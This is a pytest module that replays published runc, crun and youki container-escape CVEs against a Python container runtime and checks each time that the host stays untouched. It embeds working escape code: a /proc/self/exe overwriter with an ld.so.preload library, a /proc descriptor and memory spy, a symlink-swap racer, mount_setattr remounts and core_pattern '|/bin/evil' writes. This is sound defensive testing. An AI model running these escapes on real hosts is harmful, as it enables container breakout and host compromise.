"""What broke runc, crun and youki, each played as its write-up tells it, against our own paths."""

from __future__ import annotations

import hashlib
import os
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

import libpycontainer as lc
from libpycontainer import interpreter
from libpycontainer.spec import default
from tests.privileged.support import (
    FOREVER,
    TIMEOUT,
    add_user_namespace,
    bind,
    create,
    exec_inside,
    hook,
    read_inside,
    sh,
)

if TYPE_CHECKING:
    from tests.conftest import Bundle, BundleMaker, Pyrunc

CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")
TTL = "net.ipv4.ip_default_ttl"
HOST_TTL = Path("/proc/sys/net/ipv4/ip_default_ttl")
EVERY_SET = ("bounding", "effective", "permitted", "inheritable", "ambient")

attack = pytest.mark.attack


def text_or_refusal(factory: lc.Factory, one: Bundle, **options: Any) -> str:
    """What the bundle writes, or why it was not run."""
    try:
        return read_inside(factory, one, **options).text
    except lc.ContainerError as error:
        return f"refused: {error}"


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[Path]:
    """A directory of the host's with one file: at the end of the test it is as it was."""
    place = tmp_path / "outside"
    place.mkdir(mode=0o777)
    place.chmod(0o777)
    (place / "secret").write_text("the host's\n")
    pattern, mounts = CORE_PATTERN.read_text(), mounts_of("self")
    yield place
    found = CORE_PATTERN.read_text()
    if found != pattern:
        CORE_PATTERN.write_text(pattern)
    assert found == pattern
    assert tree(place) == {"secret": "the host's\n"}
    assert mounts_below(place, "self") == []
    assert len(mounts_of("self")) == len(mounts)


def tree(top: Path) -> dict[str, str]:
    """Every name below a directory: a file's content, a link's, or what kind of thing it is."""
    found = {}
    for path in sorted(top.rglob("*")):
        mode = path.lstat().st_mode
        if stat.S_ISLNK(mode):
            what = f"-> {path.readlink()}"
        elif stat.S_ISREG(mode):
            what = path.read_text(errors="replace") if path.stat().st_size < 4096 else "large"
        else:
            what = oct(stat.S_IFMT(mode))
        found[str(path.relative_to(top))] = what
    return found


def mounts_of(pid: int | str) -> list[str]:
    return Path(f"/proc/{pid}/mountinfo").read_text().splitlines()


def mounts_below(place: Path, pid: int | str) -> list[str]:
    return [line for line in mounts_of(pid) if line.split()[4].startswith(str(place))]


def capability_lines(text: str) -> dict[str, int]:
    """The five sets, from the words of /proc/PID/status."""
    rows = (line.split(":") for line in text.splitlines() if line.startswith("Cap"))
    return {name.removeprefix("Cap"): int(value, 16) for name, value in rows}


# ---- the runtime itself is what the attacker is after -------------------------------------------


SPY = r"""
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void look(int pid)
{
    static const char *const names[] = {"fd", "map_files"};
    char path[600], target[600];
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
        DIR *directory = opendir(path);
        for (struct dirent *entry; directory && (entry = readdir(directory));) {
            snprintf(path, sizeof path, "/proc/%d/%s/%s", pid, names[i], entry->d_name);
            long size = readlink(path, target, sizeof target - 1);
            if (size > 0)
                printf("%s %.*s\n", names[i], (int)size, target);
        }
        if (directory)
            closedir(directory);
    }
    /* The kernel asks the same as for tracing, and nobody is held up. */
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int memory = open(path, O_RDWR);
    if (memory >= 0) {
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        long size = readlink(path, target, sizeof target - 1);
        if (size > 0)
            printf("memory %.*s\n", (int)size, target);
        close(memory);
    }
}

int main(void)
{
    long seen = 0;
    int me = getpid();
    puts("watching");
    fflush(stdout);
    while (access("/dev/shm/stop", F_OK) < 0) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            if (pid > 1 && pid != me) {
                seen++;
                look(pid);
            }
        }
        closedir(proc);
    }
    printf("seen %ld\n", seen);
    return 0;
}
"""
"""Looks into every process that turns up. What it finds of a program that already runs is that
program's; of one that still is the runtime's it would be sockets, or the interpreter."""


@pytest.fixture(scope="session")
def programs(workspace: Path) -> Path:
    """A directory with the attackers' own programs: ``spy``, ``thief`` and ``thief.so``."""
    compiler = shutil.which("cc")
    if compiler is None:
        pytest.skip("cc is not installed")
    place = workspace / "programs"
    place.mkdir()
    for name, text in (("spy", SPY), ("thief", THIEF)):
        (place / f"{name}.c").write_text(text)
        command = [compiler, "-w", "-static", f"{name}.c", "-o", name]
        subprocess.run(command, cwd=place, check=True)
    library = [compiler, "-w", "-DLIBRARY", "-shared", "-fPIC", "thief.c", "-o", "thief.so"]
    subprocess.run(library, cwd=place, check=True)
    return place


@attack("CVE-2016-9962", "gets at the descriptors of a process that is joining")
@pytest.mark.parametrize("user_namespace", [False, True])
def test_cve_2016_9962_joining_process_is_watched(
    factory: lc.Factory, bundle: BundleMaker, programs: Path, user_namespace: bool
) -> None:
    one = bundle(["/spy"], private_rootfs=True)
    shutil.copy(programs / "spy", one.rootfs / "spy")
    if user_namespace:
        # There root may trace whatever is the namespace's own; a runtime that is must not be.
        add_user_namespace(one.config)
        sets = one.process["capabilities"]
        sets.update({name: ["CAP_SYS_PTRACE"] for name in EVERY_SET[:3]})
    with create(factory, one, stdout=lc.PIPE) as container:
        container.start()
        spy = container.process
        assert spy is not None
        assert spy.stdout is not None
        assert spy.stdout.readline() == b"watching\n"
        for _ in range(15):
            exec_inside(container, ["true"])
        # It must be able to see something: what is a program of the container's already.
        exec_inside(container, ["sleep", "0.05"])
        exec_inside(container, ["touch", "/dev/shm/stop"])
        output, _ = spy.communicate(timeout=TIMEOUT)
    *found, count = (output or b"").decode().splitlines()
    assert int(count.removeprefix("seen ")) >= 5
    assert "memory /bin/busybox" in found
    for word in ("socket:", "python", "memfd:", "libpycontainer", "config.json", "memory /proc"):
        assert not [line for line in found if word in line]


THIEF = r"""
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#define TRY(path, flags)                                     \
    do {                                                     \
        int fd = open(path, flags);                          \
        if (fd >= 0) { write(fd, "#!stolen\n", 9); puts("opened " path); fflush(stdout); } \
    } while (0)
#ifdef LIBRARY
__attribute__((constructor)) static void begin(void)
{
    int fd = open("/proc/self/exe", O_RDONLY);
    char name[64];
    TRY("/proc/self/exe", O_WRONLY);
    TRY("/proc/self/exe", O_RDWR | O_TRUNC);
    printf("library %d\n", fd);
    fflush(stdout);
    snprintf(name, sizeof name, "/proc/self/fd/%d", fd);
    execl("/thief", "thief", name, (char *)0);
    _exit(9);
}
#else
int main(int argc, char **argv)
{
    for (int turn = 0; turn < 300; turn++) {
        int fd = open(argv[1], O_WRONLY | (turn % 2 ? O_TRUNC : 0));
        if (fd >= 0) {
            write(fd, "#!stolen\n", 9);
            puts("opened for writing");
            return 1;
        }
        usleep(1000);
    }
    puts("gave up");
    return 0;
}
#endif
"""
"""The published exploit's two halves: a library takes hold of the program that it was loaded into,
and a second program, by which the first is no longer being executed, writes to it."""


def runs_python(one: Bundle, code: str) -> None:
    """Have the bundle run the host's Python, on the host's own files, read-only.

    Its own mounts on /dev stay: without them the host's /dev is what devices are made in.
    """
    one.config["root"] = {"path": "/", "readonly": True}
    one.process["args"] = [interpreter.find(), "-I", "-S", "-c", code]


def add_host_libraries(one: Bundle, programs: Path) -> None:
    """The root filesystem gets what the interpreter needs to be loaded, and the library."""
    listing = subprocess.run(
        ["ldd", interpreter.find()], capture_output=True, text=True, check=True
    ).stdout
    words = [word for word in listing.split() if word.startswith("/")]
    for path in {*words, "/lib64/ld-linux-x86-64.so.2"}:
        if os.path.exists(path):
            target = one.rootfs / path.lstrip("/")
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(path, target)
    shutil.copy(programs / "thief.so", one.rootfs / "thief.so")
    shutil.copy(programs / "thief", one.rootfs / "thief")
    (one.rootfs / "etc/ld.so.preload").write_text("/thief.so\n")


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A Python of the runtime's that nobody else runs: the kernel lets no one write to one that is
    being executed, which would hide whether the runtime protects it."""
    real = Path(interpreter.find())
    (tmp_path / "bin").mkdir()
    copy = tmp_path / "bin" / real.name
    shutil.copy(real, copy)
    (tmp_path / "pyvenv.cfg").write_text(f"home = {real.parent}\n")
    return copy


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@attack("CVE-2019-5736", "overwrites the runtime through /proc/self/exe")
@pytest.mark.parametrize("kind", ["path", "link", "script"])
@pytest.mark.parametrize("by_exec", [False, True])
def test_cve_2019_5736_interpreter_is_overwritten(
    state_root: str, bundle: BundleMaker, programs: Path, victim: Path, kind: str, by_exec: bool
) -> None:
    one = bundle(FOREVER, private_rootfs=True, edit=lambda c: c["root"].update(readonly=False))
    add_host_libraries(one, programs)
    (one.rootfs / "program").symlink_to("/proc/self/exe")
    (one.rootfs / "script").write_text("#!/proc/self/exe\n")
    (one.rootfs / "script").chmod(0o755)
    program = {"path": "/proc/self/exe", "link": "/program", "script": "/script"}[kind]
    before = digest(victim)
    with lc.Factory(root=state_root, interpreter=str(victim)) as factory:
        if by_exec:
            with create(factory, one) as container:
                container.start()
                text = exec_inside(container, [program, "-c", "0"]).text
        else:
            one.process["args"] = [program, "-c", "0"]
            text = read_inside(factory, one).text
    assert "library" in text
    assert "gave up" in text
    assert "opened" not in text
    assert digest(victim) == before


@attack("CVE-2019-5736", "overwrites the runtime through /proc/self/exe")
@pytest.mark.no_user_namespace("runs on the host's files")
def test_cve_2019_5736_read_only_mount_is_made_writable(
    state_root: str, bundle: BundleMaker, victim: Path
) -> None:
    # With CAP_SYS_ADMIN inside: by mount_setattr, by a remount, by a copy of the mount.
    code = """
import os, ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
path = "/proc/self/exe"
fd = os.open(path, os.O_PATH)
clear = struct.pack("QQQQ", 0, 1, 0, 0)
libc.syscall(442, fd, b"", 0x1000, clear, len(clear))
libc.mount(None, b"/proc/self/exe", None, 32 | 4096, None)
copy = libc.syscall(428, fd, b"", 0x1000 | 1)
if copy >= 0:
    libc.syscall(442, copy, b"", 0x1000, clear, len(clear))
pid = os.fork()
if pid == 0:
    os.execv("/bin/sleep", ["sleep", "0.2"])
os.waitpid(pid, 0)
for name in (path, f"/proc/self/fd/{fd}", f"/proc/self/fd/{copy}"):
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_TRUNC):
        try:
            os.open(name, flags)
            print("opened", name)
        except OSError:
            pass
print("end")
"""
    one = bundle()
    runs_python(one, code)
    one.process["args"][0] = "/proc/self/exe"
    one.config["root"]["readonly"] = False
    every = [
        f"CAP_{name}" for name in ("SYS_ADMIN", "DAC_OVERRIDE", "SYS_PTRACE", "FOWNER", "CHOWN")
    ]
    one.process["capabilities"] = dict.fromkeys(EVERY_SET[:3], every)
    one.linux.update(maskedPaths=[], readonlyPaths=[])
    before = digest(victim)
    with lc.Factory(root=state_root, interpreter=str(victim)) as factory:
        result = read_inside(factory, one)
    assert "opened" not in result.text
    assert "end" in result.text
    assert digest(victim) == before


# ---- paths that lead elsewhere, or will in a moment ---------------------------------------------


RACER = """
import ctypes, os, sys
first, second = (os.fsencode(path) for path in sys.argv[1:])
exchange = ctypes.CDLL(None).renameat2
os.write(1, b"racing\\n")
turns = 0
while os.getppid() == int(os.environ["PARENT"]) and turns < 50_000_000:
    for _ in range(200):
        turns += exchange(-100, first, -100, second, 2) == 0
    if os.path.exists(first + b".stop"):
        break
print(turns)
"""


class Racer:
    """Another process that has two names change places as fast as it can; ``turns`` in the end."""

    def __init__(self, first: Path, second: Path) -> None:
        self._stop = Path(f"{first}.stop")
        self.turns = 0
        self._popen = subprocess.Popen(
            [sys.executable, "-S", "-c", RACER, str(first), str(second)],
            env={**os.environ, "PARENT": str(os.getpid())},
            stdout=subprocess.PIPE,
            text=True,
        )

    def __enter__(self) -> Racer:
        assert self._popen.stdout is not None
        assert self._popen.stdout.readline() == "racing\n"
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.touch()
        output, _ = self._popen.communicate(timeout=TIMEOUT)
        self._stop.unlink()
        self.turns = int(output)


def shared_volume(one: Bundle, tmp_path: Path, target: Path) -> tuple[Path, Path]:
    """A volume at /volume that somebody else can change, and the two names in it that change."""
    volume = tmp_path / "volume"
    directory, link = volume / "dir", volume / "link"
    directory.mkdir(parents=True)
    link.symlink_to(target)
    for path in (volume, directory):
        path.chmod(0o777)
    bind(one.config, volume, "/volume")
    return directory, link


def create_in_a_race(factory: lc.Factory, one: Bundle, racer: Racer, times: int) -> list[list[str]]:
    """The mounts of every container that could be created while the racer was at work."""
    mounted, refusals = [], []
    with racer:
        for _ in range(times):
            try:
                with create(factory, one) as container:
                    mounted.append(mounts_of(container.pid))
            except lc.ContainerError as error:
                refusals.append(str(error))
    assert racer.turns > times
    assert [text for text in refusals if "mounts[" not in text] == []
    return mounted


@attack("CVE-2021-30465", "has a mount land on the host by swapping a directory for a link")
@pytest.mark.parametrize("climbing", [False, True])
def test_cve_2021_30465_mount_points_are_swapped(
    state_root: str, bundle: BundleMaker, tmp_path: Path, outside: Path, climbing: bool
) -> None:
    one = bundle(private_rootfs=True)
    target = Path("../" * 30 + str(outside)[1:]) if climbing else outside
    directory, link = shared_volume(one, tmp_path, target)
    (directory / "point").mkdir()
    for number in range(6):
        place = f"/volume/dir/point{number or ''}"
        one.config["mounts"].append(
            {"destination": place, "type": "tmpfs", "source": f"mark{number}"}
        )
    with lc.Factory(root=state_root, warm=True) as factory:
        racer = Racer(directory, link)
        created = create_in_a_race(factory, one, racer, 20)
    for mounts in created:
        # One that had landed outside of the root would have gone with the host's tree.
        for number in range(6):
            assert any(f" mark{number} " in line for line in mounts)
    assert created


@attack("CVE-2024-45310", "has empty files and directories made on the host")
@pytest.mark.parametrize("climbing", [False, True])
def test_cve_2024_45310_parents_are_swapped(
    state_root: str, bundle: BundleMaker, tmp_path: Path, outside: Path, climbing: bool
) -> None:
    one = bundle(private_rootfs=True)
    target = Path("../" * 30 + str(outside)[1:]) if climbing else outside
    directory, link = shared_volume(one, tmp_path, target)
    # Names of its own for each container, so that every one of them has something to make.
    made, refusals = 0, []
    usual = len(one.config["mounts"])
    with lc.Factory(root=state_root, warm=True) as factory, Racer(directory, link):
        for turn in range(20):
            del one.config["mounts"][usual:]
            for name in ("shallow", "deep/below/more"):
                bind(one.config, outside, f"/volume/dir/{name}-{turn}", "ro")
            bind(one.config, "/etc/passwd", f"/volume/dir/file-{turn}", "ro")
            try:
                create(factory, one).delete(force=True)
            except lc.ContainerError as error:
                refusals.append(str(error))
            else:
                made += 1
    assert made
    assert [text for text in refusals if "mounts[" not in text] == []


LOOK_AT_BOTH = """
for place in /proc /fake; do
    head -c 1 $place/kcore
    head -c 1 $place/version
    echo h >$place/sysrq-trigger && echo WRITTEN
    echo '|/bin/evil' >$place/sys/kernel/core_pattern && echo WRITTEN
    test -e $place/self/status && echo "the real one"
done
"""


@attack("CVE-2019-19921", "has /proc mounted elsewhere, and what should be masked left open")
def test_cve_2019_19921_proc_is_swapped(
    state_root: str, bundle: BundleMaker, outside: Path
) -> None:
    one = bundle(sh(LOOK_AT_BOTH), private_rootfs=True)
    one.linux["maskedPaths"] = ["/proc/kcore", "/proc/version"]
    for name in ("proc", "fake"):
        (one.rootfs / name / "sys/kernel").mkdir(parents=True)
        for file in ("kcore", "version", "sysrq-trigger", "sys/kernel/core_pattern"):
            (one.rootfs / name / file).write_text("")
    racer, seen = Racer(one.rootfs / "proc", one.rootfs / "fake"), ""
    with lc.Factory(root=state_root, warm=True) as factory, racer:
        for _ in range(12):
            seen += text_or_refusal(factory, one, stderr=lc.DEVNULL)
    assert racer.turns > 12
    assert "the real one\n" in seen
    assert set(seen.split("the real one\n")) == {""}


def replace_by_link(one: Bundle, name: str, target: str) -> None:
    path = one.rootfs / name
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    path.symlink_to(target)


@pytest.mark.parametrize("name", ["proc", "sys"])
@pytest.mark.parametrize("spelled", ["/{}", "//{}/", "/etc/../{}", "/./{}/."])
@pytest.mark.parametrize(
    "target",
    [
        pytest.param("elsewhere", marks=attack("CVE-2023-27561", "has /proc mounted elsewhere")),
        pytest.param("/volume", marks=attack("CVE-2023-28642", "has /proc be a volume's link")),
        pytest.param("../../tmp", marks=attack("CVE-2025-54867", "has /proc mounted elsewhere")),
    ],
)
def test_cve_2023_27561_and_kin_kernel_trees_are_links(
    factory: lc.Factory,
    bundle: BundleMaker,
    outside: Path,
    name: str,
    spelled: str,
    target: str,
) -> None:
    one = bundle(private_rootfs=True)
    (one.rootfs / "elsewhere").mkdir()
    replace_by_link(one, name, target)
    bind(one.config, outside, "/volume", "ro")
    one.config["mounts"].insert(0, one.config["mounts"].pop())
    for mount in one.config["mounts"]:
        if mount["destination"] == f"/{name}":
            mount["destination"] = spelled.format(name)
    with pytest.raises(lc.StepError, match=name):
        create(factory, one)
    assert tree(one.rootfs / "elsewhere") == tree(one.rootfs / "tmp") == {}


@attack("CVE-2019-18837", "has a link of the root be a mount's target on the host")
@pytest.mark.parametrize("climbing", [False, True])
@pytest.mark.parametrize("in_user_namespace", [False, True])
def test_cve_2019_18837_mount_targets_are_links(
    factory: lc.Factory,
    bundle: BundleMaker,
    outside: Path,
    climbing: bool,
    in_user_namespace: bool,
) -> None:
    one = bundle(sh("cat /link/made/file; ls -d /link/made/point"), private_rootfs=True)
    if in_user_namespace:
        add_user_namespace(one.config)
        for path in (one.rootfs, *one.rootfs.iterdir()):
            path.chmod(0o777)
    target = Path("../" * 30 + str(outside)[1:]) if climbing else outside
    (one.rootfs / "link").symlink_to(target)
    (one.rootfs / "etc/resolv.conf").symlink_to(target / "resolv.conf")
    (one.rootfs / "etc/hosts").symlink_to(target / "secret")
    mounts = one.config["mounts"]
    mounts.append({"destination": "/link/made/point", "type": "tmpfs", "source": "tmpfs"})
    for place in ("/link/made/file", "/etc/resolv.conf", "/etc/hosts"):
        bind(one.config, "/etc/passwd", place)
    result = read_inside(factory, one)
    assert result.text.startswith("root:")
    assert result.lines[-1] == "/link/made/point"


PLACES_OF_RUNTIME_FILES = (
    ".krun_config.json",
    ".dockerenv",
    "etc/hostname",
    "etc/hosts",
    "etc/mtab",
    "etc/resolv.conf",
    "home/config.json",
    "run/.containerenv",
    "run/secrets",
)


@attack("CVE-2025-24965", "has a file of the runtime's written through a link of the root")
def test_cve_2025_24965_runtime_writes_nothing_into_the_root(
    factory: lc.Factory, bundle: BundleMaker, outside: Path
) -> None:
    one = bundle(FOREVER, private_rootfs=True, edit=lambda c: c["root"].update(readonly=False))
    for name in PLACES_OF_RUNTIME_FILES:
        (one.rootfs / name).symlink_to(outside / "secret")
    before = tree(one.rootfs)
    with create(factory, one) as container:
        container.start()
        exec_inside(container, ["true"])
    assert tree(one.rootfs) == before


# ---- what the runtime writes to /proc, or covers there ------------------------------------------


def planted_proc(one: Bundle, place: Path) -> None:
    """A directory that looks like a procfs to whoever only writes to it, and leads elsewhere."""
    for name in ("self/attr/apparmor", "sys/net/ipv4", "sys/kernel", "thread-self/attr", "1"):
        (place / name).mkdir(parents=True)
    for name in (
        "self/attr/exec",
        "self/attr/apparmor/exec",
        "self/oom_score_adj",
        "self/uid_map",
        "sys/kernel/core_pattern",
        "1/oom_score_adj",
    ):
        (place / name).write_text("")
    (place / "sys/net/ipv4/ip_default_ttl").symlink_to("../../../sysrq-trigger")
    (place / "sysrq-trigger").write_text("")


def ttl_of(pid: int) -> str:
    command = ["nsenter", f"--net=/proc/{pid}/ns/net", "cat", str(HOST_TTL)]
    return subprocess.run(command, capture_output=True, text=True, check=True).stdout.strip()


@pytest.mark.parametrize("kind", ["bind", "tmpfs", "proc/sys", "proc/self"])
@pytest.mark.parametrize(
    "in_user_namespace",
    [
        pytest.param(
            False,
            marks=attack("CVE-2019-16884", "has writes to /proc go into a volume's file"),
        ),
        pytest.param(
            True,
            marks=attack("CVE-2025-52881", "has writes to /proc go to another file of the kernel"),
        ),
    ],
)
def test_cve_2019_16884_and_2025_52881_proc_is_a_volume(
    factory: lc.Factory, bundle: BundleMaker, tmp_path: Path, kind: str, in_user_namespace: bool
) -> None:
    one = bundle(FOREVER)
    planted = tmp_path / "planted"
    planted_proc(one, planted)
    if in_user_namespace:
        add_user_namespace(one.config)
    for path in (tmp_path, *planted.rglob("*")):
        if not path.is_symlink():
            path.chmod(0o777)
    one.process["oomScoreAdj"] = 321
    one.linux["sysctl"] = {TTL: "33"}
    one.linux.update(maskedPaths=[], readonlyPaths=[])
    if kind == "tmpfs":
        one.config["mounts"].append({"destination": "/proc", "type": "tmpfs", "source": "tmpfs"})
    elif kind == "bind":
        bind(one.config, planted, "/proc")
    else:
        bind(one.config, planted / kind.removeprefix("proc/"), f"/{kind}")
    before, ttl = tree(planted), HOST_TTL.read_text()
    with create(factory, one) as container:
        container.start()
        # What was asked for was done by the kernel, not by whatever lies at the path.
        assert Path(f"/proc/{container.pid}/oom_score_adj").read_text() == "321\n"
        assert ttl_of(container.pid) == "33"
    assert tree(planted) == before
    assert HOST_TTL.read_text() == ttl


@attack("CVE-2025-52881", "has writes to /proc go to another file of the kernel")
@pytest.mark.parametrize("place", ["/proc", "/proc/sys", "/proc/sys/net/ipv4/ip_default_ttl"])
def test_cve_2025_52881_no_procfs_of_ones_own_can_be_made(
    factory: lc.Factory, bundle: BundleMaker, tmp_path: Path, place: str
) -> None:
    # In a user namespace with the host's processes only the container's /proc is there to use.
    one = bundle()
    planted = tmp_path / "planted"
    planted_proc(one, planted)
    add_user_namespace(one.config)
    one.linux["namespaces"] = [each for each in one.linux["namespaces"] if each["type"] != "pid"]
    one.config["mounts"] = [m for m in one.config["mounts"] if m["destination"] != "/proc"]
    one.linux.update(maskedPaths=[], readonlyPaths=[], sysctl={TTL: "33"})
    if place != "/proc":
        one.config["mounts"].append(
            {"destination": "/proc", "type": "bind", "source": "/proc", "options": ["rbind"]}
        )
    source = planted / place.removeprefix("/proc").lstrip("/")
    bind(one.config, planted / "1/oom_score_adj" if source.is_symlink() else source, place)
    before, ttl = tree(planted), HOST_TTL.read_text()
    with pytest.raises(lc.StepError, match="sysctl"):
        create(factory, one)
    assert tree(planted) == before
    assert HOST_TTL.read_text() == ttl


@attack("CVE-2025-52881", "has writes to /proc go to another file of the kernel")
def test_cve_2025_52881_procfs_is_swapped_before_the_sysctls(
    factory: lc.Factory, bundle: BundleMaker, outside: Path
) -> None:
    one = bundle(FOREVER, private_rootfs=True)
    planted_proc(one, one.rootfs / "planted")
    rootfs = one.rootfs
    swap = f"mv {rootfs}/proc {rootfs}/was && mv {rootfs}/planted {rootfs}/proc"
    one.config["hooks"] = {"createRuntime": [hook(swap)]}
    one.linux["sysctl"] = {TTL: "33"}
    before = tree(rootfs / "planted")
    with create(factory, one) as container:
        container.start()
        assert ttl_of(container.pid) == "33"
    assert tree(rootfs / "proc") == before


@attack("CVE-2025-62596", "has exec's writes to /proc go into a file of the container's")
def test_cve_2025_62596_exec_writes_to_a_planted_proc(
    factory: lc.Factory, bundle: BundleMaker, tmp_path: Path
) -> None:
    planted = tmp_path / "planted"
    one = bundle(FOREVER)
    planted_proc(one, planted)
    bind(one.config, planted, "/proc")
    one.linux.update(maskedPaths=[], readonlyPaths=[])
    before = tree(planted)
    with create(factory, one) as container:
        container.start()
        asked = lc.Process(FOREVER, oom_score_adj=345, stdin=lc.DEVNULL, stdout=lc.DEVNULL)
        with container.exec(asked) as process:
            assert Path(f"/proc/{process.pid}/oom_score_adj").read_text() == "345\n"
            process.kill()
            process.wait(TIMEOUT)
    assert tree(planted) == before


def without_dev(one: Bundle) -> None:
    """No tmpfs on /dev: the root's own files lie there."""
    mounts = one.config["mounts"]
    one.config["mounts"] = [m for m in mounts if not m["destination"].startswith("/dev")]


def put(path: Path, kind: str, target: str = "") -> None:
    """Replace a path by a file, a link, nothing, or a device that is not the null device."""
    path.parent.mkdir(exist_ok=True)
    if path.is_symlink() or path.exists():
        path.unlink()
    if kind == "file":
        path.write_text("planted\n")
    elif kind == "link":
        path.symlink_to(target)
    elif kind == "zero":
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))
        path.chmod(0o666)


@pytest.mark.parametrize("kind", ["file", "link", "missing", "zero"])
@pytest.mark.parametrize(
    "how",
    [
        pytest.param("root", marks=attack("CVE-2025-31133", "has a link uncover a masked file")),
        pytest.param("bound", marks=attack("CVE-2025-31133", "has a link uncover a masked file")),
        pytest.param("file", marks=attack("CVE-2025-62161", "has a file uncover a masked one")),
    ],
)
@pytest.mark.no_user_namespace("devices are the host's, bound over whatever lies there")
def test_cve_2025_31133_null_device_is_something_else(
    factory: lc.Factory,
    bundle: BundleMaker,
    tmp_path: Path,
    outside: Path,
    kind: str,
    how: str,
) -> None:
    script = "head -c 20 /proc/cpuinfo; echo x >/proc/sys/kernel/core_pattern; cat /etc/passwd"
    one = bundle(sh(script), private_rootfs=True)
    one.linux["maskedPaths"] = ["/proc/cpuinfo", "/etc/passwd", "/proc/sys/kernel/core_pattern"]
    one.linux["readonlyPaths"] = []
    target = "/proc/sys/kernel/core_pattern"
    if how == "file":
        if kind in ("link", "missing"):
            pytest.skip("nothing that can be bound")
        put(tmp_path / "null", kind)
        bind(one.config, tmp_path / "null", "/dev/null")
    else:
        without_dev(one)
        put(one.rootfs / "dev/null", kind, target)
        if how == "bound":
            bind(one.config, one.rootfs / "dev", "/dev")
    text = text_or_refusal(factory, one, stderr=lc.DEVNULL)
    if how == "root" and kind == "missing":
        # The runtime made the device itself.
        assert text == ""
    else:
        assert text.startswith("refused: ")
        assert "dev/null" in text


@attack("CVE-2025-31133", "has a link uncover a masked file")
@pytest.mark.no_user_namespace("devices are the host's, bound over whatever lies there")
def test_cve_2025_31133_null_device_is_swapped(
    state_root: str, bundle: BundleMaker, outside: Path
) -> None:
    one = bundle(sh("head -c 20 /proc/cpuinfo; cat /etc/passwd"), private_rootfs=True)
    one.linux["maskedPaths"] = ["/proc/cpuinfo", "/etc/passwd"]
    without_dev(one)
    device, link = one.rootfs / "dev/null", one.rootfs / "dev/link"
    os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    link.symlink_to("/proc/sys/kernel/core_pattern")
    bind(one.config, one.rootfs / "dev", "/dev")
    racer, seen = Racer(device, link), []
    with lc.Factory(root=state_root, warm=True) as factory, racer:
        for _ in range(20):
            seen.append(text_or_refusal(factory, one))
    assert racer.turns > 20
    assert all(text == "" or text.startswith("refused: ") for text in seen)
    assert "" in seen


@attack("CVE-2025-52565", "has the terminal be bound over a file of the kernel's")
@pytest.mark.parametrize(
    "target", ["/proc/sys/kernel/core_pattern", "/proc/version", "/etc/passwd"]
)
@pytest.mark.parametrize("name", ["console", "pts/0", "pts/ptmx", "pts"])
def test_cve_2025_52565_terminals_names_are_links(
    factory: lc.Factory, bundle: BundleMaker, outside: Path, name: str, target: str
) -> None:
    script = """
exec 2>&1
stat -L -c '%t:%T' /dev/console
head -c 4 /proc/cpuinfo
head -c 4 /proc/version
echo '|/bin/evil' >/proc/sys/kernel/core_pattern
echo end
"""
    one = bundle(sh(script), private_rootfs=True)
    one.process["terminal"] = True
    one.linux["maskedPaths"] = ["/proc/cpuinfo", "/proc/version"]
    kept = {"/proc", "/sys"} | ({"/dev/pts"} if name == "console" else set())
    one.config["mounts"] = [m for m in one.config["mounts"] if m["destination"] in kept]
    place = one.rootfs / "dev" / name
    if name == "pts":
        place.symlink_to("/proc/sys")
    else:
        put(place, "link", target)
    before = tree(one.rootfs / "etc")
    if name == "console":
        text = terminal_output(factory, one)
        # Where the link leads is the terminal now, for the container alone; masked if it was.
        assert text.startswith("1:3" if "version" in target else "88:0")
        expected = "|/bin/evil" if "core" in target else "Read-only file system"
        assert text.splitlines()[1].endswith(expected)
    else:
        with pytest.raises(lc.StepError, match="terminal"):
            terminal_output(factory, one)
    assert tree(one.rootfs / "etc") == before


def terminal_output(factory: lc.Factory, one: Bundle) -> str:
    """What a container writes to its terminal, up to the word "end"."""
    with create(factory, one) as container:
        container.start()
        process = container.process
        assert process is not None
        assert process.console is not None
        text = ""
        while "end" not in text:
            text += os.read(process.console, 4096).decode()
        assert container.wait(TIMEOUT) == 0
        return text


# ---- descriptors --------------------------------------------------------------------------------


def host_only_program(tmp_path: Path) -> Path:
    """A program of the host's, that no path of a container leads to."""
    program = tmp_path / "host-only"
    program.write_text("#!/bin/sh\necho ESCAPED\n")
    program.chmod(0o755)
    return program


@attack("CVE-2024-21626", "works in, or executes from, a directory of the host's that leaked")
@pytest.mark.parametrize("path", ["/proc/self/fd/{}", "/proc/1/fd/{}", "/proc/thread-self/fd/{}"])
def test_cve_2024_21626_descriptors_are_no_way_out(
    state_root: str, bundle: BundleMaker, tmp_path: Path, path: str
) -> None:
    program = host_only_program(tmp_path)
    host = os.stat("/")
    look = "stat -c %d:%i . /; ls -d ../../../../../../bin/busybox; ls " + str(program)
    one = bundle(FOREVER)
    # Directories that the caller forgot to close, too.
    forgotten = [os.open("/", os.O_RDONLY | os.O_DIRECTORY) for _ in range(5)]
    for fd in forgotten:
        os.set_inheritable(fd, True)
    texts = []
    try:
        with lc.Factory(root=state_root, warm=True) as factory:
            with create(factory, one) as container:
                container.start()
                for number in range(40):
                    texts.append(attempt(container, sh(look), path.format(number)))
                    name = f"{path.format(number)}{program}"
                    texts.append(attempt(container, [name], "/"))
            for number in range(3, 15):
                one.process.update(args=sh(look), cwd=path.format(number))
                texts.append(text_or_refusal(factory, one))
                one.process.update(args=[f"{path.format(number)}{program}"], cwd="/")
                texts.append(text_or_refusal(factory, one))
    finally:
        for fd in forgotten:
            os.close(fd)
    for text in texts:
        assert "ESCAPED" not in text
